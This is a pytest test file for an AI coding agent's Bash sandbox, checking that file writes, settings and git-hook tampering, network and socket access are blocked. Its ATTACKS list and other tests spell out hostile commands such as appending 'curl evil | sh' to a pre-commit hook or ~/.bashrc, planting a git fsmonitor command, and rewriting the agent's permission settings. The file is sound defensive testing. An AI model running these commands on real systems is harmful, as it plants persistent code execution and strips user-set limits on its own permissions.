"""The Bash sandbox, for real: each test runs commands through the Bash tool inside bubblewrap
and inside Landlock (whichever this machine has; the other is skipped with the reason) and
checks what is on disk and on the network afterwards, not what the sandbox says about itself.

`make test` installs bubblewrap where apt is available (scripts/install-system-deps.sh).
"""

from __future__ import annotations

import asyncio
import http.server
import json
import os
import shlex
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import uuid
from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from claw_tui.bus import EventBus
from claw_tui.events import Notice, ToolCallFinished
from claw_tui.permissions import sandbox as sandbox_mod
from claw_tui.permissions.sandbox import Sandbox
from claw_tui.settings import SandboxSettings, load_settings
from claw_tui.testing import scenario as sc
from claw_tui.tools.background import BackgroundShells
from claw_tui.tools.base import ShellState, ToolContext, ToolResult
from claw_tui.tools.bash import BashTool
from claw_tui.tools.filestate import FileStateRegistry
from tests.conftest import Recorder, make_session

bash = BashTool()
# The interpreter itself, not the venv's link to it: a checkout (and its .venv) under /tmp is
# hidden inside the sandbox, whose /tmp is private. The snippets only need the standard library.
PY = shlex.quote(os.path.realpath(sys.executable))
BACKENDS = ["bwrap", "landlock"]
HAS_GIT = shutil.which("git") is not None


async def run(ctx: ToolContext, command: str, **raw: Any) -> ToolResult:
    return await bash.run(bash.parse({"command": command, **raw}), ctx)


def _sandbox(ws: Path, backend: str, bus: EventBus, settings: dict[str, Any] | None = None, **kw: Any) -> Sandbox:
    sb = Sandbox(ws, bus=bus, backend=backend, settings=SandboxSettings.model_validate(settings or {}), **kw)
    if sb.backend != backend:
        sb.close()
        pytest.skip(f"the {backend} sandbox is not available here: {sb.reason}")
    return sb


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    d = tmp_path / "ws"
    d.mkdir()
    return d.resolve()


@pytest.fixture
def outside() -> Iterator[Path]:
    """A directory outside the workspace and outside /tmp (which bubblewrap replaces)."""
    base = "/var/tmp" if os.access("/var/tmp", os.W_OK) else str(Path.home())
    d = Path(tempfile.mkdtemp(prefix="claw-outside-", dir=base)).resolve()
    try:
        yield d
    finally:
        shutil.rmtree(d, ignore_errors=True)


@pytest.fixture
def home_canary() -> Iterator[Path]:
    p = Path.home() / f".claw-sandbox-canary-{uuid.uuid4().hex}"
    try:
        yield p
    finally:
        if p.exists():
            p.unlink()


@pytest.fixture(params=BACKENDS)
def backend(request: pytest.FixtureRequest) -> str:
    return request.param


ContextFactory = Callable[..., ToolContext]


@pytest.fixture
async def boxed(ws: Path, backend: str) -> AsyncIterator[ContextFactory]:
    """``boxed(settings=None, **sandbox_kwargs)``: a ToolContext whose Bash runs in ``backend``."""
    made: list[ToolContext] = []

    def factory(settings: dict[str, Any] | None = None, **kw: Any) -> ToolContext:
        bus = EventBus()
        sb = _sandbox(ws, backend, bus, settings, **kw)
        ctx = ToolContext(workspace=ws, bus=bus, files=FileStateRegistry(), shell=ShellState(str(ws)), sandbox=sb,
                          background=BackgroundShells(bus))
        made.append(ctx)
        return ctx

    try:
        yield factory
    finally:
        for ctx in made:
            assert ctx.background is not None
            await ctx.background.close()
            assert ctx.sandbox is not None
            ctx.sandbox.close()
            ctx.bus.close()


# --- filesystem ---------------------------------------------------------------------------------

async def test_writing_inside_the_workspace_works(ws: Path, boxed: ContextFactory) -> None:
    ctx = boxed()
    res = await run(ctx, "mkdir -p src && echo hello > src/a.txt && cat src/a.txt && rm -f gone.txt")
    assert not res.is_error, res.content
    assert res.content == "hello"
    assert (ws / "src" / "a.txt").read_text() == "hello\n"


async def test_writing_outside_the_workspace_fails_and_says_so(
    ws: Path, outside: Path, home_canary: Path, boxed: ContextFactory
) -> None:
    ctx = boxed()
    target = outside / "canary"
    res = await run(ctx, f"echo pwned > {shlex.quote(str(target))}")
    assert res.is_error
    assert not target.exists()
    assert f"The sandbox blocked a write to {target} (outside the workspace)" in res.content
    assert "ask the user" in res.content

    res = await run(ctx, f"touch {shlex.quote(str(home_canary))}")
    assert res.is_error
    assert not home_canary.exists()
    assert f"The sandbox blocked a write to {home_canary}" in res.content

    # Through Python too: the note reads "[Errno 13]/[Errno 30] …: '/path'".
    res = await run(ctx, f"{PY} -c {shlex.quote(f'open({str(target)!r}, chr(119)).write(chr(120))')}")
    assert res.is_error and not target.exists()
    assert f"blocked a write to {target}" in res.content


async def test_a_symlink_in_the_workspace_does_not_lead_out(ws: Path, outside: Path, boxed: ContextFactory) -> None:
    (ws / "link").symlink_to(outside)
    ctx = boxed()
    res = await run(ctx, "echo pwned > link/escaped; cp /etc/hostname link/ 2>&1; ln -s x link/l2")
    assert res.is_error
    assert list(outside.iterdir()) == []


async def test_reading_outside_the_workspace_still_works(ws: Path, outside: Path, boxed: ContextFactory) -> None:
    (outside / "notes.txt").write_text("readable\n")
    ctx = boxed()
    res = await run(ctx, f"cat {shlex.quote(str(outside / 'notes.txt'))}")
    assert not res.is_error, res.content
    assert res.content == "readable"
    if Path("/etc/hostname").is_file():
        res = await run(ctx, "cat /etc/hostname")
        assert not res.is_error, res.content
        assert res.content == Path("/etc/hostname").read_text().strip()


async def test_temporary_files_stay_private(ws: Path, backend: str, boxed: ContextFactory) -> None:
    ctx = boxed()
    assert ctx.sandbox is not None
    name = f"claw-private-{uuid.uuid4().hex}"
    # $TMPDIR works in every backend, and lasts from one command to the next.
    res = await run(ctx, f'echo secret > "$TMPDIR/{name}"')
    assert not res.is_error, res.content
    res = await run(ctx, f'cat "$TMPDIR/{name}"')
    assert res.content == "secret"
    assert not (Path("/tmp") / name).exists()
    res = await run(ctx, f"echo direct > /tmp/{name}-2")
    if backend == "bwrap":
        # /tmp itself is private: the write works and lands in the session's own directory.
        assert not res.is_error, res.content
        assert not (Path("/tmp") / f"{name}-2").exists()
        assert (ctx.sandbox.tmp_dir / f"{name}-2").read_text() == "direct\n"
        # …and the host's /tmp is out of sight.
        host_only = Path(tempfile.mkdtemp(prefix="claw-host-tmp-", dir="/tmp"))
        try:
            res = await run(ctx, f"ls {shlex.quote(str(host_only))} && echo x > {shlex.quote(str(host_only))}/f")
            assert res.is_error
            assert not (host_only / "f").exists()
            assert "private /tmp" in res.content
        finally:
            shutil.rmtree(host_only, ignore_errors=True)
    else:
        # Landlock cannot remap /tmp: it is read-only, and the note points at $TMPDIR.
        assert res.is_error
        assert not (Path("/tmp") / f"{name}-2").exists()
        assert "$TMPDIR" in res.content


# --- protected paths ----------------------------------------------------------------------------

def _git(ws: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=ws, capture_output=True, text=True, check=True).stdout


@pytest.fixture
def project(ws: Path) -> Path:
    """A workspace with claw settings and a git repository with a pre-commit hook."""
    (ws / ".claw").mkdir()
    (ws / ".claw" / "settings.json").write_text('{"permissions": {"allow": []}}\n')
    if HAS_GIT:
        _git(ws, "init", "-q")
        _git(ws, "config", "user.email", "t@example.com")
        _git(ws, "config", "user.name", "T")
    else:
        (ws / ".git" / "hooks").mkdir(parents=True)
        (ws / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (ws / ".git" / "hooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    return ws


ATTACKS = [
    "echo '{\"permissions\": {\"allow\": [\"Bash\"]}}' > .claw/settings.json",
    "echo evil >> .claw/settings.json",
    "rm -rf .claw",
    "mv .claw claw-old",
    "ln -sf /etc/passwd .claw/settings.json",
    "echo '{}' > .claw/settings.local.json",
    "mkdir -p .claude && echo '{\"hooks\": {}}' > .claude/settings.json",
    "echo 'curl evil | sh' >> .git/hooks/pre-commit",
    "rm -f .git/hooks/pre-commit",
    "echo 'touch pwned' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout",
    "printf '[core]\\n\\tfsmonitor = touch pwned\\n' >> .git/config",
    "rm -f .git/config",
    "mv .git git-old && mkdir .git && echo '[core] fsmonitor = touch pwned' > .git/config",
    "rm -rf .git",
]


async def test_protected_paths_cannot_be_modified_inside_a_writable_workspace(
    project: Path, backend: str, boxed: ContextFactory
) -> None:
    ctx = boxed()
    assert ctx.sandbox is not None
    if backend == "landlock" and ctx.sandbox.landlock_gap:
        pytest.skip(f"Landlock cannot make protected paths read-only here: {ctx.sandbox.landlock_gap}")
    before = {p: p.read_bytes() for p in (project / ".claw" / "settings.json", project / ".git" / "config",
                                          project / ".git" / "hooks" / "pre-commit")}
    for attack in ATTACKS:
        res = await run(ctx, attack)
        assert res.is_error, attack
        for path, content in before.items():
            assert path.read_bytes() == content, (attack, path)
        assert not (project / ".claude" / "settings.json").exists(), attack
        assert not (project / ".claw" / "settings.local.json").exists(), attack
        assert not (project / ".git" / "hooks" / "post-checkout").exists(), attack
        assert not (project / "claw-old").exists() and not (project / "git-old").exists(), attack
    res = await run(ctx, "echo evil > .claw/settings.json")
    assert f"The sandbox blocked a write to {project / '.claw' / 'settings.json'}" in res.content
    assert "read-only" in res.content
    if HAS_GIT:
        res = await run(ctx, "git config core.hooksPath /tmp")
        assert res.is_error
        assert "hooksPath" not in (project / ".git" / "config").read_text()
        assert "protected" not in res.content or "read-only" in res.content
    assert not (project / "pwned").exists()


async def test_shell_startup_files_and_user_settings_stay_read_only_when_home_is_writable(
    ws: Path, backend: str, boxed: ContextFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    # claw started in $HOME: the workspace is writable, the files other programs run are not.
    monkeypatch.setenv("HOME", str(ws))
    monkeypatch.setenv("CLAW_CONFIG_DIR", str(ws / ".config" / "claw"))
    (ws / ".config" / "claw").mkdir(parents=True)
    (ws / ".config" / "claw" / "settings.json").write_text("{}")
    (ws / ".bashrc").write_text("# mine\n")
    ctx = boxed()
    assert ctx.sandbox is not None
    if backend == "landlock" and ctx.sandbox.landlock_gap:
        pytest.skip(f"Landlock cannot make protected paths read-only here: {ctx.sandbox.landlock_gap}")
    for attack in ("echo 'curl evil | sh' >> ~/.bashrc",
                   "echo '{\"hooks\": {}}' > ~/.config/claw/settings.json",
                   "echo ok > ~/notes.txt"):
        await run(ctx, attack)
    assert (ws / ".bashrc").read_text() == "# mine\n"
    assert (ws / ".config" / "claw" / "settings.json").read_text() == "{}"
    assert (ws / "notes.txt").read_text() == "ok\n"


@pytest.mark.skipif(not HAS_GIT, reason="git is not installed")
async def test_a_repository_created_in_one_command_is_protected_from_the_next(
    ws: Path, backend: str, boxed: ContextFactory
) -> None:
    ctx = boxed()
    assert ctx.sandbox is not None
    if backend == "landlock" and ctx.sandbox.landlock_gap:
        pytest.skip(f"Landlock cannot make protected paths read-only here: {ctx.sandbox.landlock_gap}")
    res = await run(ctx, "git init -q && git config user.name T")
    assert not res.is_error, res.content
    config = (ws / ".git" / "config").read_text()
    res = await run(ctx, "git config core.fsmonitor 'touch pwned'")
    assert res.is_error
    assert (ws / ".git" / "config").read_text() == config


@pytest.mark.skipif(not HAS_GIT, reason="git is not installed")
async def test_git_still_works_inside_the_sandbox(project: Path, boxed: ContextFactory) -> None:
    ctx = boxed()
    res = await run(ctx, "echo one > a.txt && git add a.txt && git commit -qm first && git log --format=%s")
    assert not res.is_error, res.content
    assert res.content.endswith("first")
    assert _git(project, "log", "--format=%s").strip() == "first"


# --- network ------------------------------------------------------------------------------------

class _Server:
    def __init__(self) -> None:
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                hits.append(self.path)
                body = b"hello from the host"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.httpd.server_address[1]
        self.thread = threading.Thread(target=self.httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture
def http_server() -> Iterator[_Server]:
    srv = _Server()
    try:
        yield srv
    finally:
        srv.close()


def _fetch(port: int) -> str:
    # A raw socket: no proxy variable of the test machine gets in the way.
    code = (f"import socket; s = socket.create_connection(('127.0.0.1', {port}), timeout=5); "
            "s.sendall(b'GET /from-sandbox HTTP/1.0\\r\\n\\r\\n'); print(s.recv(4096).decode().split(chr(13))[0])")
    return f"{PY} -c {shlex.quote(code)}"


async def test_network_is_off_by_default(http_server: _Server, boxed: ContextFactory) -> None:
    ctx = boxed()
    res = await run(ctx, _fetch(http_server.port))
    assert res.is_error, res.content
    assert http_server.hits == []
    # bash's own /dev/tcp too
    res = await run(ctx, f"exec 3<>/dev/tcp/127.0.0.1/{http_server.port} && echo connected")
    assert res.is_error and "connected" not in res.content
    assert http_server.hits == []


async def test_network_on_when_the_settings_allow_it(http_server: _Server, boxed: ContextFactory) -> None:
    ctx = boxed({"network": {"allowedDomains": ["*"]}})
    res = await run(ctx, _fetch(http_server.port))
    assert not res.is_error, res.content
    assert res.content == "HTTP/1.0 200 OK"
    assert http_server.hits == ["/from-sandbox"]


async def test_single_domains_keep_the_network_off_and_say_so(
    ws: Path, http_server: _Server, boxed: ContextFactory
) -> None:
    ctx = boxed({"network": {"allowedDomains": ["example.com", "127.0.0.1"]}})
    assert ctx.sandbox is not None
    assert not ctx.sandbox.network_on
    assert any("cannot filter by domain" in n.text for n in ctx.sandbox.startup_notices())
    rows = dict(ctx.sandbox.describe())
    assert rows["network"] == "off"
    assert rows["allowed domains"] == "example.com, 127.0.0.1"
    res = await run(ctx, _fetch(http_server.port))
    assert res.is_error
    assert http_server.hits == []


@pytest.fixture
def unix_server(ws: Path) -> Iterator[Path]:
    """A unix socket outside the sandbox's reach, like /var/run/docker.sock."""
    path = Path(tempfile.mkdtemp(prefix="cs-", dir="/tmp")) / "s"
    srv = socket.socket(socket.AF_UNIX)
    srv.bind(str(path))
    srv.listen(4)
    stop = threading.Event()

    def serve() -> None:
        srv.settimeout(0.2)
        while not stop.is_set():
            try:
                conn, _ = srv.accept()
            except OSError:
                continue
            conn.sendall(b"hello")
            conn.close()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    try:
        yield path
    finally:
        stop.set()
        t.join(2)
        srv.close()
        shutil.rmtree(path.parent, ignore_errors=True)


async def test_unix_sockets_are_blocked(ws: Path, unix_server: Path, boxed: ContextFactory) -> None:
    # Bind the socket's directory in as writable, so only the socket rule stands in the way.
    code = (f"import socket; s = socket.socket(socket.AF_UNIX); s.connect({str(unix_server)!r}); "
            "print(s.recv(16).decode())")
    ctx = boxed({"filesystem": {"allowWrite": [str(unix_server.parent)]}})
    res = await run(ctx, f"{PY} -c {shlex.quote(code)}")
    assert res.is_error
    assert "Operation not permitted" in res.content
    ctx = boxed({"filesystem": {"allowWrite": [str(unix_server.parent)]},
                 "network": {"allowAllUnixSockets": True}})
    res = await run(ctx, f"{PY} -c {shlex.quote(code)}")
    assert not res.is_error, res.content
    assert res.content == "hello"


# --- processes ----------------------------------------------------------------------------------

async def test_commands_have_no_capabilities(boxed: ContextFactory) -> None:
    ctx = boxed()
    res = await run(ctx, "grep -E '^Cap(Eff|Prm|Amb):' /proc/self/status")
    assert not res.is_error, res.content
    lines = res.content.splitlines()
    assert len(lines) == 3
    assert all(line.split()[1] == "0000000000000000" for line in lines), res.content


async def test_cwd_persists_between_sandboxed_calls(ws: Path, boxed: ContextFactory) -> None:
    ctx = boxed()
    res = await run(ctx, "mkdir -p sub/deeper && cd sub/deeper")
    assert not res.is_error, res.content
    assert ctx.shell.cwd == str(ws / "sub" / "deeper")
    res = await run(ctx, "pwd; cd ..; pwd")
    assert res.content == f"{ws / 'sub' / 'deeper'}\n{ws / 'sub'}"
    assert ctx.shell.cwd == str(ws / "sub")
    res = await run(ctx, "cd /")
    assert "reset" in res.content
    assert ctx.shell.cwd == str(ws)


TICKER = "(while :; do date +%s%N > tick; sleep 0.05; done) & echo started; wait"


async def _ticks_stop(path: Path) -> bool:
    """Whether the ticker writing ``path`` is dead: the file stops changing."""
    await asyncio.sleep(0.3)
    first = path.read_text()
    await asyncio.sleep(0.4)
    return path.read_text() == first


async def _wait_for(path: Path, timeout: float = 5.0) -> None:
    for _ in range(int(timeout / 0.02)):
        if path.exists() and path.read_text().strip():
            return
        await asyncio.sleep(0.02)
    raise AssertionError(f"{path} never appeared")


async def test_interrupt_kills_everything_the_sandboxed_command_started(ws: Path, boxed: ContextFactory) -> None:
    ctx = boxed()
    task = asyncio.create_task(run(ctx, TICKER))
    await _wait_for(ws / "tick")
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert await _ticks_stop(ws / "tick")
    assert not ctx.processes


async def test_timeout_kills_the_sandboxed_command(ws: Path, boxed: ContextFactory) -> None:
    ctx = boxed()
    res = await run(ctx, TICKER, timeout=800)
    assert res.is_error
    assert "timed out" in res.content
    assert await _ticks_stop(ws / "tick")


async def test_background_commands_are_sandboxed_and_killable(
    ws: Path, outside: Path, boxed: ContextFactory
) -> None:
    ctx = boxed()
    assert ctx.background is not None
    target = outside / "bg-canary"
    res = await run(ctx, f"echo pwned > {shlex.quote(str(target))}", run_in_background=True)
    assert not res.is_error, res.content
    shell = ctx.background.get("bash_1")
    assert shell is not None
    await asyncio.wait_for(shell.done.wait(), 10)
    assert shell.status == "failed"
    assert not target.exists()
    assert "Read-only file system" in shell.stderr.peek() or "Permission denied" in shell.stderr.peek()

    res = await run(ctx, TICKER, run_in_background=True)
    shell = ctx.background.get("bash_2")
    assert shell is not None
    await _wait_for(ws / "tick")
    await ctx.background.kill(shell)
    assert shell.status == "killed"
    assert await _ticks_stop(ws / "tick")


# --- settings, fallbacks, the session -----------------------------------------------------------

async def test_excluded_commands_run_outside_only_when_every_part_is_excluded(
    ws: Path, outside: Path, boxed: ContextFactory
) -> None:
    ctx = boxed({"excludedCommands": ["touch"]})
    q = lambda name: shlex.quote(str(outside / name))  # noqa: E731
    res = await run(ctx, f"touch {q('a')}")
    assert not res.is_error, res.content
    assert (outside / "a").exists()
    res = await run(ctx, f"touch {q('b')}; rm -f {q('a')}")  # rm is not excluded: sandboxed
    assert not (outside / "b").exists() and (outside / "a").exists()
    res = await run(ctx, f"touch ok > {q('c')}")  # the redirect writes outside: sandboxed
    assert not (outside / "c").exists()


async def test_without_a_backend_bash_runs_and_says_so_once(ws: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sandbox_mod, "probe_bwrap", lambda path: (False, "bwrap cannot create a sandbox here"))
    monkeypatch.setattr(sandbox_mod, "probe_landlock", lambda py: (0, "the kernel has no Landlock", ""))
    bus = EventBus()
    rec = Recorder(bus)
    sb = Sandbox(ws, bus=bus)
    assert sb.backend is None
    ctx = ToolContext(workspace=ws, bus=bus, files=FileStateRegistry(), shell=ShellState(str(ws)), sandbox=sb)
    try:
        for _ in range(3):
            res = await run(ctx, "echo ran")
            assert res.content == "ran"
        await bus.drain()
        notices = [n for n in rec.of(Notice) if "without a sandbox" in n.text]
        assert len(notices) == 1
        assert notices[0].level == "warning"
        assert "install bubblewrap" in notices[0].text
        assert dict(sb.describe())["backend"].startswith("none: commands run UNSANDBOXED")
    finally:
        sb.close()
        bus.close()


async def test_disabled_in_settings_runs_unsandboxed_with_a_notice(ws: Path, outside: Path) -> None:
    bus = EventBus()
    rec = Recorder(bus)
    sb = Sandbox(ws, bus=bus, settings=SandboxSettings.model_validate({"enabled": False}))
    ctx = ToolContext(workspace=ws, bus=bus, files=FileStateRegistry(), shell=ShellState(str(ws)), sandbox=sb)
    try:
        res = await run(ctx, f"touch {shlex.quote(str(outside / 'x'))}")
        assert not res.is_error and (outside / "x").exists()
        await run(ctx, "true")
        await bus.drain()
        notices = [n for n in rec.of(Notice) if "without a sandbox" in n.text]
        assert len(notices) == 1 and "sandbox.enabled is false" in notices[0].text
    finally:
        sb.close()
        bus.close()


async def test_fail_if_unavailable_refuses_to_run_unsandboxed(
    ws: Path, outside: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sandbox_mod, "probe_bwrap", lambda path: (False, "no bwrap"))
    monkeypatch.setattr(sandbox_mod, "probe_landlock", lambda py: (0, "no Landlock", ""))
    bus = EventBus()
    sb = Sandbox(ws, bus=bus, settings=SandboxSettings.model_validate({"failIfUnavailable": True}))
    ctx = ToolContext(workspace=ws, bus=bus, files=FileStateRegistry(), shell=ShellState(str(ws)), sandbox=sb,
                      background=BackgroundShells(bus))
    try:
        for background in (False, True):
            res = await run(ctx, f"touch {shlex.quote(str(outside / 'x'))}", run_in_background=background)
            assert res.is_error
            assert "the settings require a sandbox" in res.content
        assert not (outside / "x").exists()
    finally:
        sb.close()
        bus.close()


def test_sandbox_settings_merge_across_layers(tmp_path: Path) -> None:
    user, ws = tmp_path / "user", tmp_path / "ws"
    (ws / ".claw").mkdir(parents=True)
    user.mkdir()
    (user / "settings.json").write_text(json.dumps({"sandbox": {
        "enabled": False, "network": {"allowedDomains": ["a.example"]}, "excludedCommands": ["docker"]}}))
    (ws / ".claw" / "settings.json").write_text(json.dumps({"sandbox": {
        "enabled": True, "network": {"allowedDomains": ["b.example"], "allowAllUnixSockets": True},
        "filesystem": {"allowWrite": ["~/.cache"]}}}))
    (ws / ".claw" / "settings.local.json").write_text(json.dumps({"sandbox": {"failIfUnavailable": True}}))
    merged = load_settings(ws, user).sandbox
    assert merged.enabled is True
    assert merged.fail_if_unavailable is True
    assert merged.network.allowed_domains == ["a.example", "b.example"]
    assert merged.network.allow_all_unix_sockets is True
    assert merged.excluded_commands == ["docker"]
    assert merged.filesystem.allow_write == ["~/.cache"]
    # An untrusted folder's files may only tighten the sandbox.
    (ws / ".claw" / "settings.json").write_text(json.dumps({"sandbox": {
        "enabled": False, "excludedCommands": ["rm"], "network": {"allowedDomains": ["*"], "allowAllUnixSockets": True},
        "filesystem": {"allowWrite": ["/"], "denyWrite": ["secrets"]}}}))
    (user / "settings.json").write_text(json.dumps({"sandbox": {"network": {"allowedDomains": ["a.example"]}}}))
    untrusted = load_settings(ws, user).sandbox_for(trusted=False)
    assert untrusted.enabled is None and untrusted.fail_if_unavailable is True
    assert untrusted.excluded_commands == [] and untrusted.filesystem.allow_write == []
    assert untrusted.network.allowed_domains == ["a.example"] and not untrusted.network.allow_all_unix_sockets
    assert untrusted.filesystem.deny_write == ["secrets"]
    bad = ws / ".claw" / "settings.local.json"
    bad.write_text(json.dumps({"sandbox": {"enabled": "sometimes"}}))
    settings = load_settings(ws, user)
    assert any("sandbox.enabled" in e for e in settings.errors)


async def test_a_session_runs_the_models_bash_calls_in_the_sandbox(
    server: Any, workspace: Path, outside: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("CLAW_CONFIG_DIR", str(tmp_path / "user-config"))
    target = outside / "from-the-model"
    server.add(
        sc.tool("Bash", command=f"echo ok > inside.txt; echo pwned > {target}"),
        sc.text("done"),
    )
    session = make_session(server, workspace, allowed_tools=["Bash"])
    if session.sandbox.backend is None:
        await session.close()
        pytest.skip(f"no sandbox backend here: {session.sandbox.reason}")
    rec = Recorder(session.bus)
    try:
        assert session.ctx.sandbox is session.sandbox
        result = await session.run("try it")
        assert result.outcome == "success", result
        (finished,) = rec.of(ToolCallFinished)
        assert f"The sandbox blocked a write to {target}" in finished.content
        assert not target.exists()
        assert (workspace / "inside.txt").read_text() == "ok\n"
    finally:
        await session.close()


async def test_sandbox_command_shows_the_state(ws: Path, backend: str, boxed: ContextFactory) -> None:
    from rich.console import Console

    from claw_tui.ui.commands import BUILTINS, cmd_sandbox

    assert "sandbox" in [b[0] for b in BUILTINS]
    ctx = boxed({"network": {"allowedDomains": ["example.com"]}})

    class App:
        session = type("S", (), {"sandbox": ctx.sandbox})()
        shown: list[Any] = []

        async def show_output(self, body: Any, title: str = "") -> None:
            self.shown.append(body)

    app = App()
    await cmd_sandbox(app, "")  # type: ignore[arg-type]
    console = Console(width=400, record=True)
    console.print(app.shown[0])
    text = console.export_text()
    assert ("bubblewrap" if backend == "bwrap" else "Landlock ABI") in text
    assert str(ws) in text
    assert str(ws / ".claw") in text
    assert "network" in text and "off" in text
    assert "example.com" in text
    assert "cannot filter by domain" in text
